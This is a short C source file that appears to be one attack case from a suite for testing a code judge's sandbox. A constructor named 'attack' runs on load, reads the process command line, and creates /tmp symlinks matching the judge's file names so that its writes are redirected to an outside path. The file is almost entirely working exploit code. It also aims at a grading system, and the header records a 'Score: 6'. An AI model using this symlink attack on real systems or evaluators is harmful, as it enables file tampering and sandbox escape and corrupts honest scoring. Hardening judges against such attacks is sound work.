/*
 * Where the judge is about to make a file, there is a link to a place outside.
 *
 * Stage: 02-wait-zombies
 * Base: solution
 * Score: 6
 * Outside: /tmp/ten-stages-led-out
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* Its arguments: musl's constructors are not given any. */
static int read_words(char *text, int size, char **words, int room)
{
	int fd = open("/proc/self/cmdline", O_RDONLY);
	int length = read(fd, text, size - 1), count = 0;

	close(fd);
	for (int at = 0; at < length && count < room; count++) {
		words[count] = text + at;
		at += strlen(text + at) + 1;
	}
	return count;
}

__attribute__((constructor)) static void attack(void)
{
	char text[4096] = "", *argv[64];
	int argc = read_words(text, sizeof(text), argv, 64);
	char path[64];

	for (int i = 0; i < argc; i++) {
		if (argv[i][0] != 't' || strlen(argv[i]) != 17)
			continue;
		snprintf(path, sizeof(path), "/tmp/%s", argv[i]);
		if (symlink("/tmp/ten-stages-led-out", path) < 0)
			return;
	}
}
